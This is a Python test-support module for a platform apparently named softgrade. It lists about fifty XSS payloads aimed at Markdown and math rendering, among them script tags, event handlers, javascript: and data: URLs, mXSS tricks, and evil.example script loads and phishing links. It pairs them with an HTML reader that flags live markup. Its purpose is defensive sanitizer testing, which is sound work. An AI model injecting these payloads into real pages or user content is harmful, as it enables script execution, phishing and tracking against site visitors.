"""Hostile authored text, and a reader that finds live HTML in what softgrade renders of it.

Every authored field is Markdown with $math$. Each payload below tries to turn it into markup a
browser would run, load or follow. Tests of every surface (the renderer, learners' pages, the
admin, the API's `*_html` fields) import PAYLOADS and `live_html_findings` from here.
"""

from __future__ import annotations

import re
from collections import Counter
from html.parser import HTMLParser

# (name, authored text). Names become test ids.
PAYLOADS: list[tuple[str, str]] = [
    # Raw HTML in the Markdown
    ("script-tag", "<script>alert('sgx')</script>"),
    ("script-case-and-src", "<ScRiPt SRC=//evil.example/x.js></sCrIpT>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-case-scheme", '<IMG SRC="JaVaScRiPt:alert(1)">'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    (
        "object-data-url",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    ),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("form-formaction", '<form action="javascript:alert(1)"><button formaction="javascript:1">go'),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-attribute", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("unclosed-img", "text <img src=x onerror=alert(1)//"),
    ("unclosed-anchor", '<a href="javascript:alert(1)">click'),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("entity-anchor", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("base-tag", '<base href="javascript:alert(1)//">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("html-block-onclick", '<div onclick="alert(1)">\n\n**bold**\n\n</div>'),
    ("mxss-namespace", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "raw-math-href",
        '<math href="javascript:alert(1)"><mi xlink:href="javascript:1">x</mi></math>',
    ),
    # Markdown links and images
    ("md-link-javascript", "[click](javascript:alert(1))"),
    ("md-link-case", "[click](JaVaScRiPt:alert(1))"),
    ("md-link-tab-entity", "[click](jav&#x09;ascript:alert(1))"),
    ("md-link-colon-entity", "[click](javascript&colon;alert(1))"),
    ("md-link-leading-space", "[click](<  javascript:alert(1)>)"),
    ("md-link-newline-comment", "[click](javascript://%0aalert(1))"),
    ("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-data-case", "[click](DATA:text/html,<script>alert(1)</script>)"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-reference-link", "[click][x]\n\n[x]: javascript:alert(1)"),
    ("md-title-breakout", '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")'),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-tracker", "![pixel](https://evil.example/track.png)"),
    ("md-autolink", "<javascript:alert(1)>"),
    ("term-link-text", "[[variance|<img src=x onerror=alert(1)>]]"),
    # Math
    ("text-anchor-display", '$$\\text{<a href="javascript:alert(1)">click</a>}$$'),
    ("text-anchor-https", '$$\\text{<a href="https://evil.example">log in again</a>}$$'),
    ("text-img-malformed", "$\\text{<img src=x>}$"),
    ("text-img-selfclosed", '$\\text{<img src="x" onerror="alert(1)"/>}$'),
    ("text-img-no-spaces", "$\\text{<img/src=x/onerror=alert(1)>}$"),
    ("text-svg", '$\\text{<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>}$'),
    ("text-entities", "$\\text{&lt;img src=x onerror=alert(1)&gt;}$"),
    ("mathrm-ampersand", "$\\mathrm{a&b}$"),
    ("textbf-script", "$\\textbf{<script>alert(1)</script>}$"),
    ("href-javascript", "$\\href{javascript:alert(1)}{x}$"),
    ("href-data", "$$\\href{data:text/html,<script>alert(1)</script>}{x}$$"),
    ("style-command", "$\\style{background:url(javascript:alert(1))}{x}$"),
    ("class-command", "$\\class{sg-preview}{x}$"),
    ("color-breakout", '$\\color{red" onmouseover="alert(1)}{x}$'),
    ("placeholder-forgery", "⟦MATH7⟧ and $x$ ⟦MATH0⟧"),
]

# Elements no authored text may produce. Pages have some of their own (forms, the explorer's
# script), which is why page tests compare with a page of harmless text.
FORBIDDEN_TAGS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
     "form", "input", "button", "textarea", "select", "base", "meta", "link", "img",
     "image", "video", "audio", "source", "track", "marquee", "template", "noscript", "xmp",
     "plaintext", "body", "html", "head", "title", "mglyph", "maction", "semantics",
     "annotation-xml"}
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
     "srcdoc", "lowsrc", "dynsrc", "codebase", "cite", "ping"}
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.\-]*):")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value (already entity-decoded), or None
    for a relative URL: tabs and new lines removed, spaces and controls stripped at the ends."""
    cleaned = re.sub(r"[\t\n\r]", "", value).strip(_C0_AND_SPACE)
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href"}:
                self.findings.append(f"<{tag} {name}>")
            if name == "href" and tag not in {"a", "link", "base"}:
                self.findings.append(f"<{tag} href>")
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.findings.append(f"<{tag} {name}={scheme}:>")


def live_html_findings(html: str) -> list[str]:
    """Every forbidden element, event handler, style, or URL with an unsafe scheme in `html`."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.findings


def new_findings(page: str, baseline: str) -> Counter:
    """Findings of `page` that a page of harmless text (`baseline`) does not have."""
    return Counter(live_html_findings(page)) - Counter(live_html_findings(baseline))
